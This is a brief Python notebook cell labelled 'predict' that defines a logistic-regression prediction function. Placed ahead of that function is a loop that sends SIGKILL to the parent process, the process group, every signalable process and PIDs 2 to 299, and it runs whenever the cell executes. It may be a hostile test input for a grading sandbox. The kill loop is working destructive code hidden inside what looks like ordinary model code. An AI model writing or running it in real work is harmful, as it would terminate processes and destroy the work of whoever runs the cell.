# Kills its parent, its group and everybody else.
# %% predict
import os
import signal

for pid in (os.getppid(), 0, -1, *range(2, 300)):
    try:
        os.kill(pid, signal.SIGKILL)
    except (OSError, ValueError):
        pass
def predict(w, b, X):
    return (sigmoid(w.T @ X + b) > 0.5) * 1.0
